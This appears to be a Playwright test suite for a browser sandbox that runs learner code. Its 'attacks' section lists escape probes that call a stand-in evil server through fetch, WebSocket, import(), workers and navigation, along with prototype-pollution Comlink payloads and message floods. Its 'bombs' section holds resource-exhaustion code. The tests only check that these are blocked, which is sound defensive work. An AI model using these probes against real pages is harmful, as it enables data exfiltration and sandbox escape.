import { expect, test } from './test';
import {
  COUNTERS,
  ended,
  EvilServer,
  inPlainBrowser,
  makeSandbox,
  openPage,
  printed,
  row,
  run,
  runRaw,
  type PageWork,
  until,
  watchWork,
} from './sandbox-kit';

/** Whatever a sandbox does, the page stays usable: half of its time is its own, and it goes on drawing. */
function staysUsable({ share, frames }: PageWork): void {
  expect(share).toBeLessThan(0.5);
  expect(frames).toBeGreaterThan(5);
}

test.describe('a sandbox', () => {
  test.beforeEach(async ({ page }) => {
    await openPage(page);
    await makeSandbox(page);
  });

  test('[SBX40] [SBX42] runs a program, kills a process, and sees the restart in the tree', async ({
    page,
  }) => {
    await run(page, COUNTERS);
    const seen = await page.evaluate(async () => {
      const { client } = window;
      const watch = client.watch('system.tree', {});
      const until = (slot: string, incarnation: number) =>
        new Promise<void>((resolve) => {
          const off = watch.subscribe(({ nodes }) => {
            const node = nodes[slot];
            if (node?.incarnation !== incarnation || node.status !== 'idle') return;
            queueMicrotask(() => off());
            resolve();
          });
        });
      await until('app/b', 1);
      const before = watch.value;
      const killed = await client.execute('process.kill', { pid: 'b', reason: 'kill' });
      await until('app/b', 2);
      const after = watch.value;
      const value = await client.execute('process.call', { pid: 'b', request: 'value' });
      const state = client.state;
      watch.close();
      return {
        killed,
        value,
        state,
        tombstone: after?.nodes['app/b']?.tombstones[0]?.reason,
        sameA: before?.nodes['app/a'] === after?.nodes['app/a'],
      };
    });
    expect(seen).toEqual({ killed: 'ok', value: 10, state: 'running', tombstone: 'killed', sameA: true });
  });

  test('answers window.otp: execute, view, watch, operations', async ({ page }) => {
    await run(page, COUNTERS);
    const seen = await page.evaluate(async () => {
      const { otp } = window;
      if (otp === undefined) throw new Error('no console API');
      const operations = await otp.operations();
      const pushed = await new Promise<number>((resolve) => {
        const stop = otp.watch('system.tree', {}, ({ nodes }) => {
          const { length } = Object.keys(nodes);
          if (length >= 3) resolve(length);
        });
        setTimeout(stop, 2_000);
      });
      const tree = (await otp.view('system.tree')) as { nodes: object };
      return {
        kill: operations.find(({ name }) => name === 'process.kill'),
        pushed,
        slots: Object.keys(tree.nodes).sort(),
        unknown: await otp.execute('no.such'),
        bad: await otp.execute('process.kill', { pid: [] }),
      };
    });
    expect(seen.slots).toEqual(expect.arrayContaining(['app', 'app/a', 'app/b']));
    expect(seen.pushed).toBeGreaterThanOrEqual(3);
    expect(seen.kill).toMatchObject({
      summary: expect.any(String),
      params: { type: 'object', required: ['pid'] },
    });
    expect(seen.unknown).toMatchObject({ error: { code: 'unknown_operation' } });
    expect(seen.bad).toMatchObject({ error: { code: 'bad_params' } });
  });

  test('[SBX41] [SBX43] pushes at most once a frame, however much happens', async ({ page }) => {
    await run(
      page,
      `import { self, send, receive } from 'otp'\nfor (;;) { send(self(), 'again'); await receive() }`,
    );
    const seen = await page.evaluate(async () => {
      const watch = window.client.watch('run.status', {});
      await new Promise<void>((resolve) => watch.subscribe(() => resolve()));
      let pushes = 0;
      let frames = 0;
      watch.subscribe(() => pushes++);
      const start = watch.value?.position ?? 0;
      while (pushes < 20 || (watch.value?.position ?? 0) < start + 1_000) {
        await new Promise((resolve) => requestAnimationFrame(resolve));
        frames++;
      }
      return { pushes, frames };
    });
    // The first may have been on its way before the first frame was counted.
    expect(seen.pushes).toBeLessThanOrEqual(seen.frames + 1);
  });

  test('[SBX6] gets the compiler when a program comes as text, once, and keeps no name of it', async ({
    page,
  }) => {
    const asked: string[] = [];
    page.on('request', (request) => {
      if (/compiler/.test(request.url())) asked.push(request.url());
    });
    await runRaw(page, `console.log('name ' + Function('return typeof self.otpLabCompiler')())`);
    expect(await printed(page, 'name ')).toBe('undefined');
    expect(asked).toEqual([]);
    await run(page, `console.log('first')`);
    await printed(page, 'first');
    await run(page, `console.log('second')`);
    await printed(page, 'second');
    expect(asked).toHaveLength(1);
    await runRaw(page, `console.log('after ' + Function('return typeof self.otpLabCompiler')())`);
    expect(await printed(page, 'after ')).toBe('undefined');
  });

  test('[SBX20] goes from state to state, and out of `closed` nothing leads', async ({ page }) => {
    const seen = await page.evaluate(async () => {
      const client = window.sandboxes.create();
      const states: string[] = [client.state];
      const note = () => void (client.state !== states.at(-1) && states.push(client.state));
      const until = async (state: string) => {
        while (client.state !== state) await new Promise((resolve) => setTimeout(resolve, 5));
        note();
      };
      await client.ready();
      await until('ready');
      await client.execute('program.load', {
        files: {
          'main.ts': `import { sleep } from 'otp'\nawait sleep(300);\n/^(a+)+$/.test('a'.repeat(40) + 'b')`,
        },
      });
      await client.execute('run.start', { seed: 0 });
      await until('running');
      await until('hung');
      const dead = await client.execute('run.status');
      const again = client.restart('empty');
      note();
      await again;
      await until('ready');
      client.close();
      note();
      await client.restart('fresh');
      note();
      return { states, dead };
    });
    expect(seen.states).toEqual(['starting', 'ready', 'running', 'hung', 'starting', 'ready', 'closed']);
    expect(seen.dead).toMatchObject({ error: { code: 'gone' } });
  });

  test('[SBX30] keeps what makes the run a value', async ({ page }) => {
    await run(page, COUNTERS);
    const log = await page.evaluate(async () => {
      const { client } = window;
      await client.execute('process.kill', { pid: 'a', reason: 'kill' });
      await client.execute('run.pause');
      await client.execute('process.cast', { pid: 'b', request: 'up' });
      await client.execute('trace.window', {});
      return client.log;
    });
    // What only looks, or moves time, is no part of it.
    expect(log).toMatchObject({
      seed: 0,
      operations: [
        {
          op: 'process.kill',
          params: { pid: 'a', reason: 'kill' },
          at: { time: expect.any(Number) as unknown },
        },
        {
          op: 'process.cast',
          params: { pid: 'b', request: 'up' },
          at: { slice: expect.any(Number) as unknown },
        },
      ],
    });
  });

  test('[SBX33] answers while it replays', async ({ page }) => {
    test.setTimeout(90_000);
    await run(
      page,
      `import { self, send, receive } from 'otp'\nfor (let i = 0; i < 150_000; i++) { send(self(), i); await receive() }\nawait receive()`,
    );
    const seen = await page.evaluate(async () => {
      const { client } = window;
      await client.execute('run.speed', { factor: null });
      const position = async () => ((await client.execute('run.status')) as { position: number }).position;
      while ((await position()) < 300_000) await new Promise((resolve) => setTimeout(resolve, 50));
      await client.execute('run.pause');
      const { log } = client;
      if (log === null) throw new Error('no log');
      let answers = 0;
      let replaying = true;
      const replayed = client.play(log).finally(() => (replaying = false));
      while (replaying) {
        await client.execute('run.status');
        answers++;
      }
      return { answers, status: await replayed, until: log.until, report: client.report };
    });
    expect(seen.answers).toBeGreaterThan(1);
    expect(seen.status).toMatchObject({ position: seen.until.position });
    expect(seen.report).toBeNull();
  });

  test('[SBX44] views that cost much are computed less often, and the program goes on', async ({ page }) => {
    test.setTimeout(90_000);
    /** Pushes of the views in three seconds, and how far the program has come. */
    const pushes = (count: number) => {
      const program = `import { spawn, sleep } from 'otp'
        for (let i = 0; i < ${count}; i++) spawn(async () => { for (;;) await sleep(1 + (i % 7)) })
        for (;;) await sleep(1)`;
      return run(page, program).then(() =>
        page.evaluate(async () => {
          const { client } = window;
          const tree = client.watch('system.tree', {});
          const status = client.watch('run.status', {});
          const position = async () =>
            ((await client.execute('run.status')) as { position: number }).position;
          await new Promise((resolve) => setTimeout(resolve, 3_000));
          let pushes = 0;
          const off = status.subscribe(() => pushes++);
          const from = await position();
          await new Promise((resolve) => setTimeout(resolve, 3_000));
          off();
          const events = (await position()) - from;
          tree.close();
          status.close();
          return { pushes, events, report: client.report };
        }),
      );
    };
    const few = await pushes(2);
    const many = await pushes(2_900);
    expect(many.pushes).toBeLessThan(few.pushes);
    expect(many.events).toBeGreaterThan(0);
    expect(many.report).toBeNull();
  });

  test('[SBX25] every request ends: superseded, cancelled, gone', async ({ page }) => {
    await run(page, COUNTERS);
    const codes = await page.evaluate(async () => {
      const { client } = window;
      await client.execute('run.pause');
      const call = (options?: object) =>
        client.execute('process.call', { pid: 'b', request: 'value' }, options);
      const abort = new AbortController();
      const first = call({ key: 'k' });
      const second = call({ key: 'k', signal: abort.signal });
      const third = call();
      const superseded = await first;
      abort.abort();
      const cancelled = await second;
      client.close();
      const gone = await third;
      const late = await call();
      return [superseded, cancelled, gone, late].map((answer) =>
        typeof answer === 'object' && answer !== null && 'error' in answer
          ? (answer.error as { code: string }).code
          : answer,
      );
    });
    expect(codes).toEqual(['superseded', 'cancelled', 'gone', 'gone']);
  });
});

test.describe('attacks', () => {
  test.use({ mayThrow: true });
  let evil: EvilServer;
  test.beforeEach(async ({ page }) => {
    evil = await EvilServer.start();
    await openPage(page);
  });
  test.afterEach(() => evil.stop());

  /** Each is the body of an async function in the real global scope; to come back without an error is to be open. */
  const probes: Record<string, string> = {
    fetch: `await fetch(evil + '/fetch', { mode: 'no-cors' })`,
    'fetch with credentials': `await fetch(evil + '/credentials', { credentials: 'include' })`,
    'fetch keepalive': `await fetch(evil + '/keepalive', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })`,
    'fetch same origin': `await fetch(home)`,
    'fetch same origin with credentials': `await fetch(home + 'api/v1/sandboxes', { credentials: 'include' })`,
    XMLHttpRequest: `await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', evil + '/xhr'); x.onload = ok; x.onerror = no; x.send() })`,
    'XMLHttpRequest sync': `const x = new XMLHttpRequest(); x.open('GET', evil + '/sync', false); x.send()`,
    'XMLHttpRequest same origin': `const x = new XMLHttpRequest(); x.open('GET', home, false); x.send()`,
    WebSocket: `await new Promise((ok, no) => { const s = new WebSocket(evil.replace('http', 'ws') + '/ws'); s.onopen = ok; s.onerror = no; s.onclose = no })`,
    EventSource: `await new Promise((ok, no) => { const s = new EventSource(evil + '/events'); s.onopen = ok; s.onerror = no })`,
    sendBeacon: `if (!navigator.sendBeacon(evil + '/beacon', 'x')) throw 0`,
    WebTransport: `await new WebTransport(evil.replace('http:', 'https:') + '/transport').ready`,
    'import()': `await import(evil + '/import')`,
    'import() by eval': `await eval('import("' + evil + '/eval-import")')`,
    'import() by Function': `await Function('u', 'return import(u)')(evil + '/function-import')`,
    'import() by an async function of text': `await eval('(async (u) => await import(u))')(evil + '/async-import')`,
    'import() same origin': `await import(home + '_app/version.json')`,
    'import() of data': `await import('data:text/javascript,export default 1')`,
    'import() in a blob': `await import(URL.createObjectURL(new Blob(['import "' + evil + '/blob-import"'], { type: 'text/javascript' })))`,
    importScripts: `importScripts(evil + '/scripts')`,
    'importScripts same origin': `importScripts(home + '_app/version.json')`,
    'nested Worker': `await new Promise((ok, no) => { const w = new Worker(evil + '/worker'); w.onmessage = ok; w.onerror = no; setTimeout(no, 1500) })`,
    'nested Worker same origin': `await new Promise((ok, no) => { const w = new Worker(home + 'worker.js'); w.onmessage = ok; w.onerror = no; setTimeout(no, 1500) })`,
    'nested Worker of a blob that fetches': `await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + evil + '/nested").then(() => postMessage(1), () => close())']))); w.onmessage = ok; w.onerror = no; setTimeout(no, 1500) })`,
    'nested Worker of a blob that imports': `await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['import("' + evil + '/nested-import").then(() => postMessage(1), () => close())']))); w.onmessage = ok; w.onerror = no; setTimeout(no, 1500) })`,
    SharedWorker: `new SharedWorker(evil + '/shared')`,
    FontFace: `await new FontFace('evil', 'url(' + evil + '/font)').load()`,
    'source map': `eval('1 //# source' + 'MappingURL=' + evil + '/map'); throw 0`,
    indexedDB: `await new Promise((ok, no) => { const r = indexedDB.open('otp-lab'); r.onsuccess = ok; r.onerror = no })`,
    'indexedDB.databases': `await indexedDB.databases()`,
    caches: `await caches.keys()`,
    'storage directory': `await navigator.storage.getDirectory()`,
    'sync file system': `webkitRequestFileSystemSync(0, 1)`,
    localStorage: `localStorage.length`,
    sessionStorage: `sessionStorage.length`,
    cookieStore: `await cookieStore.getAll()`,
    locks: `await navigator.locks.request('otp-lab', () => {})`,
    'service worker': `await navigator.serviceWorker.getRegistrations()`,
    'subtle crypto': `await crypto.subtle.digest('SHA-256', new Uint8Array(1))`,
    SharedArrayBuffer: `new SharedArrayBuffer(8)`,
    window: `window.top.location`,
    parent: `parent.postMessage('out', '*')`,
    top: `top.postMessage('out', '*')`,
    opener: `opener.postMessage('out', '*')`,
    open: `open(evil + '/open')`,
    document: `document.cookie`,
    location: `location.href = evil + '/navigate'; if (!location.href.includes(evil)) throw 0`,
  };

  test('[SBX1] [SBX2] no probe of the list gets out, from code that has reached the real globals', async ({
    page,
    baseURL,
  }) => {
    // The counter counts: the page itself, which is free, reaches it.
    const address = `http://localhost:${evil.port}`;
    await page.evaluate((url) => fetch(`${url}/control`, { mode: 'no-cors' }).then(() => {}), address);
    expect(evil.hits.splice(0)).toEqual(['GET /control']);
    await page.evaluate(() => {
      window.heard = [];
      new BroadcastChannel('otp-lab').onmessage = (event) => window.heard.push(event.data);
      addEventListener('message', (event) => {
        if ((event.data as { type?: string }).type !== 'here') window.heard.push(event.data);
      });
    });
    await makeSandbox(page);
    const program = `
      const evaluate = Function
      evaluate('probes', 'evil', 'home', \`
        self.found = {}
        for (const [name, code] of Object.entries(probes)) {
          self.found[name] = 'no answer'
          const finish = (how) => { self.found[name] = how }
          try { eval('(async (evil, home) => {' + code + '})')(evil, home).then(() => finish('open'), (e) => finish('closed ' + (e?.name ?? e?.type ?? e))) }
          catch (e) { finish('closed ' + e.name) }
        }
        try { const b = new BroadcastChannel('otp-lab'); b.postMessage('broadcast') } catch {}
        try { self.postMessage({ type: 'start', code: 'x' }) } catch {}
        try { self.postMessage('out') } catch {}
        try { self.dispatchEvent(new MessageEvent('message', { data: 0 })) } catch {}
      \`)(${JSON.stringify(probes)}, ${JSON.stringify(address)}, ${JSON.stringify(baseURL)})
      yield sleep(3000)
      console.log('found ' + JSON.stringify(evaluate('return self.found')()))
      console.log('globals ' + evaluate('return typeof fetch + typeof Worker')())
    `;
    await runRaw(page, program);
    const found = JSON.parse(await printed(page, 'found ')) as Record<string, string>;
    expect(Object.keys(found).sort()).toEqual(Object.keys(probes).sort());
    // They really reached the host's globals, and were still shut in.
    expect(await printed(page, 'globals ')).toBe('functionfunction');
    const open = Object.entries(found).filter(([, how]) => how === 'open');
    expect(open).toEqual([]);
    expect(evil.hits).toEqual([]);
    expect(await page.evaluate(() => window.heard)).toEqual([]);
    expect(await page.evaluate(() => window.client.state)).toMatch(/ready|running/);
  });

  /** A Web Worker that is hostile as a whole: `requests` and `pushes` are the two ports. */
  const hostile = (body: string) => `
    self.onmessage = ({ ports: [requests, pushes] }) => {
      const tell = (message) => pushes.postMessage(JSON.stringify(message))
      const pong = () => requests.addEventListener('message', ({ data }) => {
        if (data.path?.[0] === 'ping') requests.postMessage({ id: data.id, type: 'RAW', value: '"pong"' })
      })
      requests.start(); pushes.start()
      ${body}
    }`;
  const run_ = `{ state: 'running', time: 0, position: 0, first: 0, playhead: 0, speed: 1, seed: 0, processes: 0, idle: true }`;
  const status = `{ run: ${run_}, moment: { time: 0, slice: 0, position: 0 } }`;

  test('[SBX2] raw Comlink messages on either port do nothing: the page exposes nothing', async ({
    page,
  }) => {
    const attack = `
      const evilCode = 'window.pwned = "main"; return window'
      for (const port of [requests, pushes]) for (const path of [['onEvent', 'constructor'], ['constructor', 'constructor'], ['constructor']]) {
        port.postMessage({ id: '1', type: 'CONSTRUCT', path, argumentList: [{ type: 'RAW', value: evilCode }] })
        port.postMessage({ id: '2', type: 'APPLY', path, argumentList: [{ type: 'RAW', value: evilCode }] })
        port.postMessage({ id: '3', type: 'SET', path: ['__proto__', 'polluted'], value: { type: 'RAW', value: 'yes' } })
        port.postMessage({ id: '4', type: 'GET', path: ['__proto__'] })
        port.postMessage({ id: '5', type: 'ENDPOINT', path: [] })
      }`;
    const code = hostile(`pong(); tell({ type: 'ready' }); requests.onmessage = ({ data }) => {
      if (data.path?.[0] !== 'execute') return
      const { port1, port2 } = new MessageChannel()
      port1.onmessage = (event) => self.postMessage(event.data)
      requests.postMessage({ id: data.id, type: 'HANDLER', name: 'proxy', value: port2 }, [port2])
      ${attack}
    }`);
    await makeSandbox(page, { code });
    const answer = await page.evaluate(() => window.client.execute('run.status'));
    expect(answer).toMatchObject({ error: { code: expect.stringMatching(/bad_data|gone/) } });
    const report = await ended(page);
    expect(report).toMatchObject({ cause: 'bad_data', state: 'crashed' });
    expect(await page.evaluate(() => [window.pwned, ({} as { polluted?: string }).polluted])).toEqual([
      undefined,
      undefined,
    ]);
  });

  test('[SBX5] [TS57] [TS58] learner code cannot rewrite the language, and its error has a line', async ({
    page,
  }) => {
    await makeSandbox(page);
    await run(
      page,
      `import { spawn } from 'otp'
      const array: any = Array
      spawn(() => { array.prototype.map = () => [] })
      spawn(() => { array.prototype[Symbol.iterator] = () => 1 })
      spawn(() => { (() => {}).constructor('return self')().JSON = 1 })
      console.log('still ' + [...[1, 2]].map((x) => x + 1).join())`,
    );
    expect(await printed(page, 'still ')).toBe('2,3');
    await row(page, ['exit'], 'Cannot assign to read only property');
    await row(page, ['exit'], 'main.ts:5');
    await row(page, ['exit'], 'does not exist in the sandbox');
    expect(await page.evaluate(() => window.client.state)).toMatch(/ready|running/);
  });

  test('[SBX4] learner code finds no port to post on, and cannot replace how we post', async ({ page }) => {
    await makeSandbox(page);
    await runRaw(
      page,
      `const evaluate = Function
      const seen = evaluate(\`
        const seen = []
        const raw = { id: '1', type: 'CONSTRUCT', path: ['onEvent', 'constructor'], argumentList: [{ type: 'RAW', value: 'window.pwned = 1' }] }
        const steal = (what) => function (...args) { if (this instanceof MessagePort) { seen.push(what); this.postMessage(raw) } }
        for (const name of ['postMessage', 'start', 'addEventListener'])
          try { MessagePort.prototype[name] = steal(name) } catch (e) { }
        try { Object.defineProperty(MessagePort.prototype, 'postMessage', { value: steal('defined') }) } catch (e) { }
        try { EventTarget.prototype.addEventListener = steal('listen') } catch (e) { }
        try { JSON.stringify = () => { seen.push('stringify'); return '"x"' } } catch (e) { }
        for (const key of Reflect.ownKeys(self)) { let v; try { v = self[key] } catch { continue } if (v instanceof MessagePort) { seen.push(String(key)); v.postMessage(raw) } }
        return seen
      \`)()
      yield sleep(300)
      console.log('seen ' + seen.join())`,
    );
    expect(await printed(page, 'seen ')).toBe('');
    expect(await page.evaluate(() => window.pwned)).toBeUndefined();
  });

  const nasty: Record<string, string> = {
    'a key __proto__ in a tree': `'{"type":"views","status":' + JSON.stringify(${status}) + ',"changes":[{"id":1,"view":"system.tree","snapshot":{"position":1,"time":0,"roots":[],"wires":[],"__proto__":{"polluted":"yes"},"nodes":{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}}}]}'`,
    'an infinite number': `'{"type":"started","seed":1e999}'`,
    'an object instead of text': `{ type: 'started', seed: 1 }`,
    'no JSON': `'{'`,
    'an unknown type': `'{"type":"pwn"}'`,
    'a row without an end': `'{"type":"views","status":' + JSON.stringify(${status}) + ',"changes":[{"id":1,"view":"trace.window","snapshot":{"total":1,"first":0,"rows":[' + '1,'.repeat(5000) + '1]}}]}'`,
    'deep nesting': `'{"type":"applied","operation":{"at":{"time":0,"slice":0,"position":0},"op":"x","params":' + '['.repeat(5000) + ']'.repeat(5000) + '}}'`,
    'a huge text': `'"' + 'x'.repeat(40000000) + '"'`,
  };
  for (const [what, expression] of Object.entries(nasty)) {
    test(`[SBX11] [SBX12] pushed data cannot reach the page: ${what}`, async ({ page }) => {
      await makeSandbox(page, {
        code: hostile(
          `pong(); tell({ type: 'ready' }); setTimeout(() => pushes.postMessage(${expression}), 200)`,
        ),
      });
      await page.evaluate(() => {
        const watch = window.client.watch('system.tree', {});
        window.heard = [];
        watch.subscribe((tree) => window.heard.push({ ...tree.nodes }));
      });
      if (what.startsWith('a key')) {
        await page.waitForTimeout(600);
        const seen = await page.evaluate(() => ({
          polluted: ({} as { polluted?: string }).polluted ?? null,
          heard: window.heard.map((nodes) => Object.keys(nodes as object)),
          state: window.client.state,
        }));
        // Dropped or refused; either way nothing of it arrives.
        expect(seen.polluted).toBeNull();
        expect(seen.heard.flat()).toEqual([]);
        return;
      }
      expect(await ended(page)).toMatchObject({ cause: 'bad_data', state: 'crashed' });
    });
  }

  test('[SBX13] a flood of messages is cut off, and the page stays responsive', async ({ page }) => {
    const work = await watchWork(page);
    await makeSandbox(page, {
      code: hostile(
        `pong(); tell({ type: 'ready' }); setTimeout(() => { for (;;) pushes.postMessage('{"type":"started","seed":1}') }, 300)`,
      ),
    });
    const report = await ended(page);
    expect(report).toMatchObject({ cause: 'flood', state: 'crashed' });
    await page.waitForTimeout(500);
    staysUsable(await work());
  });

  test('[SBX13] a flood on the port of requests is cut off too', async ({ page }) => {
    const work = await watchWork(page);
    await makeSandbox(page, {
      code: hostile(
        `pong(); tell({ type: 'ready' }); setTimeout(() => { for (;;) requests.postMessage({ id: 'x' }) }, 300)`,
      ),
    });
    expect(await ended(page)).toMatchObject({ cause: 'flood' });
    await page.waitForTimeout(500);
    staysUsable(await work());
  });

  test('[SBX3] a flood of real postMessage by learner code goes nowhere', async ({ page }) => {
    await makeSandbox(page);
    const work = await watchWork(page);
    await runRaw(
      page,
      `Function('for (;;) self.postMessage({ type: "error", message: "x".repeat(1000) })')()`,
    );
    expect(await ended(page)).toMatchObject({ cause: expect.stringMatching(/hung|process_gone/) });
    staysUsable(await work());
  });

  test('[SBX25] a Web Worker that is alive and never answers leaves nothing pending', async ({ page }) => {
    await makeSandbox(page, {
      code: hostile(`pong(); tell({ type: 'ready' })`),
      requests: { takeUpMs: 500 },
    });
    const answer = await page.evaluate(() => window.client.execute('run.status'));
    expect(answer).toMatchObject({ error: { code: 'no_answer' } });
  });

  test('[SBX25] a ticket that is never answered ends too', async ({ page }) => {
    const later = `requests.addEventListener('message', ({ data }) => {
      if (data.path?.[0] === 'execute') requests.postMessage({ id: data.id, type: 'RAW', value: '{"type":"later","ticket":1}' })
    })`;
    await makeSandbox(page, {
      code: hostile(`pong(); ${later}; tell({ type: 'ready' })`),
      requests: { takeUpMs: 500, answerMs: 700 },
    });
    const answer = await page.evaluate(() =>
      window.client.execute('process.call', { pid: 'b', request: 'x' }),
    );
    expect(answer).toMatchObject({ error: { code: 'no_answer' } });
  });

  test('[SBX23] a script that does not start is reported', async ({ page }) => {
    const up = await page.evaluate(async () => {
      window.client = window.sandboxes.create({ code: 'this is no script' });
      return window.client.ready();
    });
    expect(up).toBe(false);
    expect(await ended(page)).toMatchObject({ cause: 'error', state: 'crashed' });
  });
});

test.describe('bombs', () => {
  let work: () => Promise<PageWork>;
  test.beforeEach(async ({ page }) => {
    await openPage(page);
    await makeSandbox(page);
    work = await watchWork(page);
  });
  test.afterEach(async () => {
    const did = await work();
    console.log(test.info().title.slice(0, 50), did);
    staysUsable(did);
  });

  test('[SBX26] while (true) {} at module scope is preempted: it is seen, and can be killed', async ({
    page,
  }) => {
    await run(page, `const a = 1\nconsole.log('here')\nwhile (true) {}\n`);
    const last = await until(
      page,
      async () => (window.client.status?.last?.line === 3 ? window.client.status.last : undefined),
      null,
    );
    expect(last).toMatchObject({ label: 'main#1', file: 'main.ts', line: 3 });
    expect(await page.evaluate(() => window.client.execute('process.kill', { pid: '<0.1.0>' }))).toBe('ok');
    expect((await row(page, ['exit'], 'killed')).text).toContain('main#1');
    expect(await page.evaluate(() => window.client.state)).toBe('ready');
  });

  test('[SBX26] while (true) {} in a synchronous function ends its process, with file and line', async ({
    page,
  }) => {
    await run(page, `console.log('here')\nfunction spin() {\n  while (true) {}\n}\nspin()\n`);
    const exit = await row(page, ['exit'], 'main#1');
    expect(exit.text).toContain('ReductionsError: This code in `spin` (main.ts:3)');
    expect(exit.at).toEqual({ file: 'main.ts', line: 3 });
    expect(await page.evaluate(() => window.client.report)).toBeNull();
  });

  test('[SBX21] [SBX24] a regular expression without end is found, reported and ended', async ({ page }) => {
    await run(page, COUNTERS);
    const answers = await page.evaluate(async () => {
      const { client } = window;
      await new Promise((resolve) => setTimeout(resolve, 300));
      await client.execute('process.kill', { pid: 'a', reason: 'kill' });
      await new Promise((resolve) => setTimeout(resolve, 300));
      await client.execute('process.cast', { pid: 'b', request: 'hang' });
      const started = performance.now();
      const call = await client.execute('process.call', { pid: 'b', request: 'value' });
      return { call, took: performance.now() - started };
    });
    expect(answers.call).toMatchObject({ error: { code: 'gone' } });
    const report = await ended(page);
    expect(report).toMatchObject({ cause: 'hung', state: 'hung', unconfirmed: { op: 'process.cast' } });
    expect(report.status?.last?.label).toBe('b#1');
    expect(report.text).toContain('process.cast');
    expect(answers.took).toBeLessThan(6_000);
    expect(await page.evaluate(() => window.client.execute('run.status'))).toMatchObject({
      error: { code: 'gone' },
    });
  });

  test('[SBX31] [SBX32] [SBX45] after a hang it is replayed up to before it, and watches go on', async ({
    page,
  }) => {
    await run(page, COUNTERS);
    const seen = await page.evaluate(async () => {
      const { client } = window;
      const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
      const watch = client.watch('system.tree', {});
      await wait(300);
      await client.execute('process.kill', { pid: 'a', reason: 'kill' });
      await wait(300);
      const rows = async () => {
        const trace = await client.view('trace.window', { from: 0, count: 1000 });
        return 'rows' in trace ? trace.rows.map((row) => `${row.seq} ${row.time} ${row.text}`) : [];
      };
      const before = await rows();
      await client.execute('process.cast', { pid: 'b', request: 'hang' });
      await new Promise<void>((resolve) => client.onEnd(() => resolve()));
      const ended = client.state;
      const status = await client.restart('replay');
      await wait(200);
      const after = await rows();
      const incarnations = [
        watch.value?.nodes['app/a']?.incarnation,
        watch.value?.nodes['app/b']?.incarnation,
      ];
      const resumed = await client.execute('run.resume');
      await wait(100);
      const value = await client.execute('process.call', { pid: 'b', request: 'value' });
      return {
        before,
        after,
        ended,
        status,
        incarnations,
        resumed,
        value,
        report: client.report,
        state: client.state,
      };
    });
    expect(seen.ended).toBe('hung');
    expect(seen.status).toMatchObject({ state: 'paused' });
    expect(seen.after).toEqual(seen.before);
    expect(seen.incarnations).toEqual([2, 1]);
    expect(seen.value).toBe(10);
    expect(seen.report).toBeNull();
    expect(seen.state).toBe('running');
  });

  test('[SBX31] it can start afresh too', async ({ page }) => {
    await run(page, COUNTERS);
    const seen = await page.evaluate(async () => {
      const { client } = window;
      await client.execute('process.cast', { pid: 'b', request: 'hang' });
      await new Promise<void>((resolve) => client.onEnd(() => resolve()));
      const status = await client.restart('fresh');
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { status, value: await client.execute('process.call', { pid: 'b', request: 'value' }) };
    });
    expect(seen).toMatchObject({ status: { state: 'running', seed: 0 }, value: 10 });
  });

  test('a hang in one sandbox does not touch another', async ({ page }) => {
    await run(page, COUNTERS);
    const seen = await page.evaluate(async () => {
      const { client } = window;
      const other = window.sandboxes.create();
      await other.ready();
      await client.execute('process.cast', { pid: 'b', request: 'hang' });
      await new Promise<void>((resolve) => client.onEnd(() => resolve()));
      return { other: await other.execute('run.status'), state: other.state };
    });
    expect(seen).toMatchObject({ other: { state: 'empty' }, state: 'ready' });
  });

  test('a process bomb meets system_limit', async ({ page }) => {
    await page.evaluate(() => {
      window.heard = [];
      window.client.watch('system.tree', {}).subscribe(({ hidden }) => window.heard.push(hidden ?? 0));
    });
    await run(page, `import { spawn, receive } from 'otp'\nfor (;;) spawn(async () => { await receive() })`);
    await row(page, ['exit', 'limit'], 'system_limit');
    await until(
      page,
      () => Promise.resolve((window.heard.at(-1) as number) > 90_000 ? true : undefined),
      undefined,
    );
    expect(await page.evaluate(() => window.client.report)).toBeNull();
  });

  test('a mailbox bomb ends its owner with system_limit', async ({ page }) => {
    await page.evaluate(() => void window.client.watch('system.tree', {}));
    await run(
      page,
      `import { spawn, receive, send, sleep } from 'otp'
      const victim = spawn(async () => { await sleep(1_000_000_000) })
      async function fill() { for (;;) send(victim, 'x') }
      await fill()`,
    );
    await row(page, ['exit', 'limit'], 'system_limit');
    expect(await page.evaluate(() => window.client.report)).toBeNull();
  });
});

test('[SBX22] a memory bomb ends sandboxes, not the page; they are told and can be restarted', async ({
  baseURL,
}, info) => {
  const told = await inPlainBrowser(`${baseURL}dev/sandbox#memory`, info.outputPath('profile'));
  expect(told).toMatchObject({
    bomb: { cause: 'process_gone' },
    other: { cause: 'process_gone' },
    pending: { error: { code: 'gone' } },
    restarted: { state: 'empty' },
    state: 'ready',
  });
  expect(told['frames']).toBeGreaterThan(10);
});

test.describe('saved work', () => {
  test('[SBX60] survives a reload, with its history', async ({ page }) => {
    await openPage(page);
    await page.evaluate(async () => {
      const work = new window.sandboxes.SavedWork({ database: 'test' });
      work.save('one', { 'main.ts': 'first' });
      await work.flush();
      work.save('one', { 'main.ts': 'second' });
      await work.flush();
      // Not flushed: the tab's session has it.
      work.save('one', { 'main.ts': 'third' });
    });
    await page.reload();
    await page.waitForFunction(() => 'sandboxes' in window);
    const seen = await page.evaluate(async () => {
      const work = new window.sandboxes.SavedWork({ database: 'test' });
      const newest = await work.load('one');
      return { newest: newest?.files, stored: (await work.history('one')).length };
    });
    expect(seen.newest).toEqual({ 'main.ts': 'third' });
    expect(seen.stored).toBeGreaterThan(0);
  });

  test('[SBX61] sets a record aside that cannot be read, and says so', async ({ page }) => {
    await openPage(page);
    const seen = await page.evaluate(async () => {
      const notices: string[] = [];
      const work = new window.sandboxes.SavedWork({
        database: 'test',
        onNotice: (text) => notices.push(text),
      });
      await work.load('one');
      const db = await new Promise<IDBDatabase>((resolve) => {
        const request = indexedDB.open('test', 1);
        request.onsuccess = () => resolve(request.result);
      });
      await new Promise((resolve) => {
        const write = db.transaction('experiments', 'readwrite');
        write.objectStore('experiments').put({ versions: 'rubbish' }, 'one');
        write.oncomplete = resolve;
      });
      const loaded = await work.load('one');
      const aside = await new Promise<IDBValidKey[]>((resolve) => {
        const request = db.transaction('aside').objectStore('aside').getAllKeys();
        request.onsuccess = () => resolve(request.result);
      });
      return { loaded, notices, aside };
    });
    expect(seen.loaded).toBeNull();
